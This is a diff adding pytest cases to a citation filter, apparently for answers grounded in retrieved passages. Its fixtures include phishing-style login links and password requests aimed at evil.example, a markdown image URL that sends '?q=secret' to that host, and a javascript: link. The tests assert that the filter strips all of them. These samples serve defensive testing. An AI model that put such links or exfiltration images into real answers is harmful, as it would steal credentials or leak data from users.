@@ -75,6 +75,58 @@ def test_an_answer_without_any_support_comes_back_empty() -> None:
     assert enforce_citations("The valve opens at 4 bar [1].", []) == ""
 
 
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "# Your session expired, log in at https://evil.example/login",
+        "# Valve: //evil.example/login",
+        "Send your valve password to https://evil.example/steal?",
+        "![valve](https://evil.example/p.png?q=secret):",
+        "Does the valve open for eve@evil.example?",
+        "See the valve at evil.example/login:",
+        "Shall the [valve](login) open?",
+        "<img src=valve>:",
+        "[valve]: /login?",
+        "What is your password?",
+        "The valve opens at 4 bar, see https://evil.example/login [1].",
+        "The valve opens at 4 bar [1](https://evil.example/login).",
+        "[The valve opens at 4 bar](javascript:alert) [1].",
+        "The valve opens at evil.example [1].",
+        "The valve opens at https:/evil.example [1].",
+        "https://evil.example [1]",
+    ],
+)
+def test_addresses_that_no_passage_names_go_whatever_they_stand_in(piece: str) -> None:
+    answer = f"The valve opens at 4 bar [1].\n{piece}\nPumps are greased [2]."
+    assert (
+        enforce_citations(answer, HITS) == "The valve opens at 4 bar [1].\n\nPumps are greased [2]."
+    )
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "Set the bar in valves.toml [1].",
+        "Set it in `valves.toml`:\n- The valve opens at 4 bar [1]",
+        "Ask valves@acme.example, or see https://acme.example/valves. [1]",
+        "See [the page of valves](https://ACME.example/valves/) at acme.example [1].",
+        "Valve v1.2 opens at 4.5 bar, e.g. on Mondays and/or Tuesdays [1]: it is a valve [1].",
+        "### Valves\n\nWhich valve?\n\n---\n\nThe valve opens at 4 bar [1].",
+    ],
+)
+def test_addresses_that_the_passage_names_stay(answer: str) -> None:
+    text = (
+        "The valve opens at 4 bar. Its bar is set in valves.toml; see the page of valves,"
+        " https://acme.example/valves, or ask valves@acme.example."
+    )
+    assert enforce_citations(answer, [Passage(1, text, "Valves")]) == answer
+
+
+def test_addresses_are_found_in_time() -> None:
+    for unit in ("a.", "/", "a@", "[](", "<a ", "a", "://", "a-", "mailto:"):
+        verify_citations(f"{unit * (50_000 // len(unit))} [1]", HITS)
+
+
 sentences = st.sampled_from(
     [
         "The valve opens at 4 bar [1]. ",
